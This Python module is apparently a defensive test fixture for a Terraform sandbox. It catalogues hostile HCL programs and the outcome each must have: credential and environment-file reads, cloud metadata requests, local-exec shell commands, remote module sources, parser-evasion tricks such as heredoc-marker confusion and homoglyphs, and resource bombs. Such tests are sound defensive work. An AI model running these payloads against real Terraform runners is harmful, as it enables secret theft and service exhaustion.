"""The hostile programs: what each one tries, and what must come of it.

`@SECRET@` stands for the path of a planted file and `@PORT@` for a port on which a listener of the tests waits.
Files are read, programs run and connections opened by the first part; the second part burns time and memory.
"""

from __future__ import annotations

import string
from dataclasses import dataclass, field
from enum import Enum
from itertools import pairwise

from ...drawn import some_of_each


class Must(Enum):
    """What must come of a program. Only HARMLESS may pass."""

    DENIED = "a static rule names it; it never reaches terraform"
    UNREADABLE = "it does not parse"
    ABSENT = "its provider is not in the mirror"
    REFUSED = "terraform finds it wrong"
    BOUNDED = "it ends within its limits, wrong or undecided"
    HARMLESS = "what is hostile in it is blanked, unknown or mere text"


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile program."""

    name: str
    must: Must
    text: str
    files: dict[str, str] = field(default_factory=dict)


def in_locals(must: Must, **expressions: str) -> list[Attack]:
    """Return programs that evaluate one expression each, in a local value that an output shows."""
    shown = 'output "shown" {\n  value = local.a\n}\n'
    return [
        Attack(name.replace("_", " "), must, f"locals {{\n  a = {expression}\n}}\n{shown}")
        for name, expression in expressions.items()
    ]


def blocks(must: Must, **texts: str) -> list[Attack]:
    return [Attack(name.replace("_", " "), must, text) for name, text in texts.items()]


FUNCTIONS = in_locals(
    Must.DENIED,
    file='file("@SECRET@")',
    file_in_try='try(file("@SECRET@"), "none")',
    file_in_can='can(file("@SECRET@")) ? "it is there" : "it is not"',
    file_of_the_environment='file("/proc/self/environ")',
    file_of_the_parent='file("/proc/1/environ")',
    fileexists='fileexists("@SECRET@")',
    filebase64='filebase64("@SECRET@")',
    filemd5='filemd5("@SECRET@")',
    filesha1='filesha1("@SECRET@")',
    filesha256='filesha256("@SECRET@")',
    filesha512='filesha512("@SECRET@")',
    filebase64sha256='filebase64sha256("@SECRET@")',
    filebase64sha512='filebase64sha512("@SECRET@")',
    fileset='fileset("/", "**")',
    templatefile='templatefile("@SECRET@", {})',
    templatefile_of_itself='templatefile("${path.module}/main.tf", {})',
    templatestring='templatestring(local.b, { b = "$${file(\\"@SECRET@\\")}" })',
    pathexpand='pathexpand("~/.aws/credentials")',
    core_function='core::file("@SECRET@")',
    provider_function='provider::terraform::decode_tfvars("a = 1")',
    provider_function_of_another='provider::external::run("id")',
    comment_in_a_call='file /* hidden */ ("@SECRET@")',
    call_over_lines='[file # hidden\n("@SECRET@")]',
    heredoc_with_a_directive='<<-EOT\n    %{ if fileexists("@SECRET@") }yes%{ endif }\n  EOT',
    heredoc_that_ends_early='[for E in [1] : [<<E\ntext\nE\n, file("@SECRET@")]]',
    nested_templates='"${"${"${file("@SECRET@")}"}"}"',
    object_key='{ (file("@SECRET@")) = 1 }',
    jsonencode_of_a_file='jsonencode({ a = base64gzip(file("@SECRET@")) })',
    three_loops="[for a in range(1024) : [for b in range(1024) : [for c in range(1024) : 1]]]",
)

DATA = blocks(
    Must.DENIED,
    data_external='data "external" "x" {\n  program = ["/bin/sh", "-c", "cat @SECRET@"]\n}\n',
    data_http='data "http" "x" {\n  url = "http://127.0.0.1:@PORT@/"\n}\n',
    data_http_of_the_metadata='data "http" "x" {\n  url = "http://169.254.169.254/latest/meta-data/"\n}\n',
    data_local_file='data "local_file" "x" {\n  filename = "@SECRET@"\n}\n',
    data_local_sensitive_file='data "local_sensitive_file" "x" {\n  filename = "@SECRET@"\n}\n',
    data_template_file='data "template_file" "x" {\n  template = "@SECRET@"\n}\n',
    data_archive_file='data "archive_file" "x" {\n  type = "zip"\n  source_file = "@SECRET@"\n}\n',
    data_remote_state='data "terraform_remote_state" "x" {\n  backend = "local"\n'
    '  config = {\n    path = "@SECRET@"\n  }\n}\noutput "x" {\n  value = data.terraform_remote_state.x.outputs\n}\n',
    data_remote_state_over_http='data "terraform_remote_state" "x" {\n  backend = "http"\n'
    '  config = {\n    address = "http://127.0.0.1:@PORT@/"\n  }\n}\n',
    data_remote_state_spelt_with_an_escape='data "terraform_remote_st\\u0061te" "x" {\n  backend = "local"\n'
    '  config = {\n    path = "@SECRET@"\n  }\n}\noutput "x" {\n  value = data.terraform_remote_state.x.outputs\n}\n',
    data_remote_state_in_a_check='check "x" {\n  data "terraform_remote_state" "y" {\n    backend = "local"\n'
    '    config = {\n      path = "@SECRET@"\n    }\n  }\n  assert {\n'
    "    condition     = data.terraform_remote_state.y.outputs == {}\n"
    '    error_message = "${jsonencode(data.terraform_remote_state.y.outputs)}"\n  }\n}\n',
    data_http_in_a_check='check "x" {\n  data "http" "y" {\n    url = "http://127.0.0.1:@PORT@/"\n  }\n  assert {\n'
    "    condition     = data.http.y.status_code == 200\n    error_message = data.http.y.body\n  }\n}\n",
)

BLOCKS = blocks(
    Must.DENIED,
    local_exec='resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "cat @SECRET@"\n  }\n}\n',
    remote_exec='resource "terraform_data" "x" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n}\n',
    file_provisioner='resource "terraform_data" "x" {\n  provisioner "file" {\n    source = "@SECRET@"\n'
    '    destination = "/tmp/x"\n  }\n}\n',
    connection='resource "terraform_data" "x" {\n  connection {\n    host = "127.0.0.1"\n    port = @PORT@\n  }\n}\n',
    backend_s3='terraform {\n  backend "s3" {\n    bucket = "x"\n    key = "x"\n    region = "us-east-1"\n'
    '    endpoint = "http://127.0.0.1:@PORT@"\n  }\n}\n',
    backend_http='terraform {\n  backend "http" {\n    address = "http://127.0.0.1:@PORT@/"\n  }\n}\n',
    backend_local='terraform {\n  backend "local" {\n    path = "@SECRET@"\n  }\n}\n',
    backend_on_one_line='terraform {\n  backend "local" { path = "@SECRET@" }\n}\n',
    cloud='terraform {\n  cloud {\n    hostname = "127.0.0.1"\n    organization = "x"\n  }\n}\n',
    provider_meta='terraform {\n  provider_meta "aws" {\n    x = "@SECRET@"\n  }\n}\n',
    import_block='import {\n  to = terraform_data.x\n  id = "@SECRET@"\n}\nresource "terraform_data" "x" {\n}\n',
    removed_block='removed {\n  from = terraform_data.x\n  provisioner "local-exec" {\n    when = destroy\n'
    '    command = "id"\n  }\n}\n',
    action_block='action "local_command" "x" {\n  config {\n    command = "id"\n  }\n}\n',
    validation_that_prints_a_file='variable "x" {\n  default = "y"\n  validation {\n    condition = var.x == "z"\n'
    '    error_message = file("@SECRET@")\n  }\n}\n',
    precondition_that_prints_a_file='resource "terraform_data" "x" {\n  lifecycle {\n    precondition {\n'
    '      condition = false\n      error_message = file("@SECRET@")\n    }\n  }\n}\n',
    user_data_from_a_file='resource "aws_instance" "x" {\n  ami = "a"\n  instance_type = "t3.micro"\n'
    '  user_data = file("@SECRET@")\n}\n',
)

MODULES = [
    Attack(f"module from {source}", Must.DENIED, f'module "x" {{\n  source = "{source}"\n}}\n')
    for source in (
        "/etc",
        "/tmp",
        "../",
        "../../../../../../etc",
        "./../x",
        "git::https://127.0.0.1:@PORT@/x.git",
        "git::ssh://git@127.0.0.1/x.git",
        "git::file:///@SECRET@",
        "github.com/hashicorp/example",
        "https://127.0.0.1:@PORT@/module.zip",
        "http://127.0.0.1:@PORT@/module",
        "127.0.0.1:@PORT@/a/b/c",
        "registry.example.com/a/b/c",
        "terraform-aws-modules/vpc/aws",
        "s3::https://s3.amazonaws.com/x/y.zip",
        "gcs::https://www.googleapis.com/storage/v1/x.zip",
        "hg::http://127.0.0.1:@PORT@/x",
        "file:///etc",
        "${path.root}/../..",
    )
]

SEVERAL_FILES = [
    Attack("call in another file", Must.DENIED, "", {"outputs.tf": 'output "x" {\n  value = file("@SECRET@")\n}\n'}),
    Attack("program in an override file", Must.DENIED, 'resource "terraform_data" "x" {\n}\n', {
        "x_override.tf": 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n'
    }),
    Attack("call in a module that nobody calls", Must.DENIED, "locals {\n}\n", {
        "modules/x/main.tf": 'output "x" {\n  value = file("@SECRET@")\n}\n'
    }),
    Attack("module that leaves its tree", Must.DENIED, 'module "x" {\n  source = "./modules/x"\n}\n', {
        "modules/x/main.tf": 'module "y" {\n  source = "../../../r0"\n}\n'
    }),
]  # fmt: skip

ABSENT = blocks(
    Must.ABSENT,
    http_as_a_resource='resource "http_thing" "x" {\n  url = "http://127.0.0.1:@PORT@"\n}\n',
    provider_from_elsewhere='terraform {\n  required_providers {\n    evil = {\n      source = "127.0.0.1:@PORT@/a/e"\n'
    '    }\n  }\n}\nresource "evil_program" "x" {\n}\n',
    provider_named_in_the_resource='resource "aws_vpc" "x" {\n  provider = evil\n  cidr_block = "10.0.0.0/16"\n}\n',
    null_resource='resource "null_resource" "x" {\n}\n',
    local_file_written='resource "local_file" "x" {\n  filename = "/tmp/written"\n  content = "x"\n}\n',
    shell_script='resource "shell_script" "x" {\n  lifecycle_commands {\n    create = "id"\n  }\n}\n',
    ephemeral_of_another='ephemeral "random_password" "x" {\n  length = 8\n}\n',
)

PROVIDER_SETTINGS = [
    Attack(f"provider with {name}", Must.HARMLESS, f'provider "aws" {{\n  region = "us-east-1"\n  {setting}\n}}\n')
    for name, setting in {
        "endpoints": 'endpoints {\n    sts = "http://127.0.0.1:@PORT@"\n    ec2 = "http://127.0.0.1:@PORT@"\n  }',
        "http_proxy": 'http_proxy = "http://127.0.0.1:@PORT@"',
        "custom_ca_bundle": 'custom_ca_bundle = "@SECRET@"',
        "shared_credentials_files": 'shared_credentials_files = ["@SECRET@"]',
        "shared_config_files": 'shared_config_files = ["@SECRET@"]',
        "profile": 'profile = "planted"',
        "web identity": 'assume_role_with_web_identity {\n    role_arn = "arn:aws:iam::123456789012:role/x"\n'
        '    web_identity_token_file = "@SECRET@"\n  }',
        "ec2_metadata_service_endpoint": 'ec2_metadata_service_endpoint = "http://127.0.0.1:@PORT@"',
        "a role": 'assume_role {\n    role_arn = "arn:aws:iam::123456789012:role/x"\n  }',
        "keys": 'access_key = "@SECRET@"\n  secret_key = "@SECRET@"',
    }.items()
]

SHOWN = """
variable "v" {
  default = "y"
  validation {
    condition     = var.v == "z"
    error_message = local.b
  }
}
"""
"""A message of terraform's that repeats the local value `b`."""


def hidden(marker: str, line: str = "", before: str = "") -> str:
    """Return a program whose code the grammar takes for a comment in a heredoc, if it misses the end `marker`."""
    text = f'{before}locals {{\n  a = <<{marker}\n{line}\n/*\n{marker}\n  b = file("@SECRET@")\n# */\n}}\n'
    return text + SHOWN


UNREADABLE = blocks(
    Must.UNREADABLE,
    json_instead='{"data": {"external": {"x": {"program": ["id"]}}}}\n',
    marker_then_a_call='locals {\n  b = <<E\nE${file("@SECRET@")}\nE\n}\n' + SHOWN,
    marker_a_space_and_a_call='locals {\n  b = <<EOT\n  EOT ${file("@SECRET@")}\nEOT\n}\n' + SHOWN,
    marker_then_directives='locals {\n  b = <<E\nE%{ if true }${file("@SECRET@")}\nE%{ endif }\nE\n}\n' + SHOWN,
    marker_of_128=hidden("A" * 128, "foo"),
    wide_marker_of_65=hidden("Ł" * 65, "A" * 65),
    marker_that_only_terraform_takes_for_a_name=hidden("\u037a", "z"),
    marker_that_ends_elsewhere=hidden("E\u309b", "E"),
    marker_after_twenty_others=hidden("Ł", "A", "".join(f"a{n} = <<é{n}\n\né{n}\n" for n in range(20))),
    marker_without_a_free_letter=hidden(
        "Ł", "A", "# " + ".".join(letter * 2 for letter in string.ascii_letters) + ".\n"
    ),
    templates_beyond_what_the_grammar_remembers="a = " + '"${' * 70 + "x" + '}"' * 70 + '\nb = file("@SECRET@")\n',
    bidi_in_a_name="locals {\n  a = local.b\u202e\n}\n",
    nul_byte='locals {\n  a = "x"\0\n}\n',
    deep_parentheses="locals {\n  a = " + "(" * 5000 + "1" + ")" * 5000 + "\n}\n",
    deep_lists="locals {\n  a = " + "[" * 5000 + "]" * 5000 + "\n}\n",
    deep_blocks="a {\n" * 5000 + "}\n" * 5000,
    deep_templates="locals {\n  a = " + '"${' * 5000 + "1" + '}"' * 5000 + "\n}\n",
    heredoc_ended_by_a_wide_space='locals {\n  a = <<E\ntext\nE\u3000\n  b = file("@SECRET@")\n  c = <<E\nE\n}\n',
    comment_never_closed='locals {\n  a = 1 /*\n}\nfile("@SECRET@")\n',
    block_on_the_line_of_another='locals {\n  a = 1\n} data "external" "x" {\n}\n',
    override_of_the_layout='} module "x" { source = "/etc"\n',
    long_chain_of_minus="locals {\n  a = " + "-" * 5000 + "1\n}\n",
)

REFUSED = blocks(
    Must.REFUSED,
    dynamic_provisioner='resource "terraform_data" "x" {\n  dynamic "provisioner" {\n    for_each = [1]\n'
    '    labels = ["local-exec"]\n    content {\n      command = "id"\n    }\n  }\n}\n',
    homoglyph_function='locals {\n  a = fil\u0435("@SECRET@")\n}\n',
    ligature_function='locals {\n  a = \ufb01le("@SECRET@")\n}\n',
    homoglyph_block='dat\u0430 "external" "x" {\n  program = ["id"]\n}\n',
    cycle_through_everything='locals {\n  a = "${local.b}"\n  b = "${local.a}"\n}\n',
    blame_of_a_neighbour='locals {\n  a = "module.r0" + 1\n}\n',
    name_that_breaks_json='resource "terraform_data" "${jsonencode(1)}" {\n}\n',
    name_with_a_quote='variable "a\'b" {\n}\n',
    workspace_as_a_number='output "x" {\n  value = tonumber(terraform.workspace)\n}\n',
    folder_as_a_number='output "x" {\n  value = tonumber(path.cwd)\n}\n',
    folder_by_abspath='output "x" {\n  value = tonumber(abspath("."))\n}\n',
    credentials_as_a_number='output "x" {\n  value = tonumber(env.AWS_SECRET_ACCESS_KEY)\n}\n',
    sensitive_default_printed='variable "x" {\n  sensitive = true\n  default = "@SECRET@"\n}\n'
    'output "x" {\n  value = tonumber(var.x)\n}\n',
    regex_that_does_not_compile='locals {\n  a = regex("(a+)+(?!b)", "aaaa")\n}\n',
    deep_json='locals {\n  a = jsondecode("' + "[" * 20_000 + "]" * 20_000 + '")\n}\n',
    cidr_bomb='locals {\n  a = cidrsubnets("10.0.0.0/8", [for i in range(1024) : 30]...)\n}\n',
    range_without_end="locals {\n  a = range(100000000)\n}\n",
    wrong_override="locals {\n  a = 1\n}\nlocals {\n  a = 2\n}\n",
)

HARMLESS = blocks(
    Must.HARMLESS,
    moved_to_another_module="moved {\n  from = module.r0.terraform_data.ok\n  to = module.r2.terraform_data.ok\n}\n",
    environment_in_text='locals {\n  a = "$AWS_SECRET_ACCESS_KEY $${env.TF_VAR_secret} %%{TF_CLI_ARGS}"\n}\n',
    file_in_text='locals {\n  a = "file(\\"@SECRET@\\")" # file("@SECRET@")\n}\n',
    own_versions='terraform {\n  required_version = ">= 1.0"\n}\n',
    bcrypt_at_its_highest_cost='locals {\n  a = bcrypt("x", 31)\n}\noutput "x" {\n  value = local.a\n}\n',
    time_and_chance='output "x" {\n  value = [timestamp(), uuid(), plantimestamp()]\n}\n',
    byte_order_mark="\ufefflocals {\n  a = 1\n}\n",
    carriage_returns="locals {\r\n  a = 1\r\n}\r\n",
    bidi_in_a_comment="# \u202e } ]1[ egnar = a { slacol\nlocals {\n  a = 1\n}\n",
    long_name=f"locals {{\n  {'a' * 100_000} = 1\n}}\n",
    regex_that_would_backtrack='locals {\n  a = can(regex("^(a+)+$", "' + "a" * 50_000 + '!"))\n}\n',
    errors_swallowed='locals {\n  a = try(tonumber("x"), one([1, 2]), jsondecode("{"), "none")\n}\n',
    csv_of_ten_thousand_lines='locals {\n  a = csvdecode("a,b\\n' + "1,2\\n" * 10_000 + '")\n}\n',
    large_text='output "x" {\n  value = "' + "x" * 190_000 + '"\n}\n',
)

BOMBS = blocks(
    Must.BOUNDED,
    loops_over_loops="locals {\n  a = [for x in range(1024) : [for y in range(1024) : x]]\n"
    "  b = [for x in flatten(local.a) : [for y in flatten(local.a) : x]]\n}\n",
    setproduct="locals {\n  a = setproduct(range(1024), range(1024), range(1024))\n}\n",
    wide_format='locals {\n  a = format("%1000000000s", "x")\n}\n',
    wide_format_out_of_sight='locals {\n  a = format(join("", ["%", "100000000", "0s"]), "x")\n}\n',
    doubling='locals {\n  a0 = "xxxxxxxxxx"\n'
    + "".join(f'  a{i + 1} = "${{local.a{i}}}${{local.a{i}}}"\n' for i in range(40))
    + "}\n",
    doubling_lists="locals {\n  a0 = [1, 2]\n"
    + "".join(f"  a{i + 1} = concat(local.a{i}, local.a{i})\n" for i in range(40))
    + "}\n",
    doubling_json="locals {\n  a0 = jsonencode([1, 2])\n"
    + "".join(f"  a{i + 1} = jsonencode([local.a{i}, local.a{i}])\n" for i in range(40))
    + "}\n",
    sum_of_a_flood="locals {\n  a = sum(flatten([for x in range(1024) : [for y in range(1024) : range(64)]]))\n}\n",
    gzip_of_a_flood='locals {\n  a = base64gzip(join("", [for x in setproduct(range(1024), range(1024)) : "xxxx"]))\n'
    '  b = format("%2000000000s", local.a)\n}\n',
    flood_of_messages="locals {\n  a = [" + 'tonumber("x"), ' * 12_000 + "]\n}\n",
    thirty_thousand_blocks="a {\n}\n" * 30_000,
    billion_laughs='locals {\n  a = yamldecode("a: &a [x,x,x,x,x,x,x,x,x]\\n'
    + "".join(f"{b}: &{b} [{','.join(['*' + a] * 9)}]\\n" for a, b in pairwise("abcdefghijklm"))
    + '")\n  b = tonumber(jsonencode(local.a))\n}\n',
)
KINDS = {
    "functions": FUNCTIONS,
    "data": DATA,
    "blocks": BLOCKS,
    "modules": MODULES,
    "several files": SEVERAL_FILES,
    "absent providers": ABSENT,
    "provider settings": PROVIDER_SETTINGS,
    "unreadable": UNREADABLE,
    "refused": REFUSED,
    "harmless": HARMLESS,
    "bombs": BOMBS,
}
ALL = [attack for attacks in KINDS.values() for attack in attacks]
DRAWN = some_of_each(ALL, lambda attack: [kind for kind, attacks in KINDS.items() if attack in attacks], count=2)
"""Two of each kind, others for each commit."""
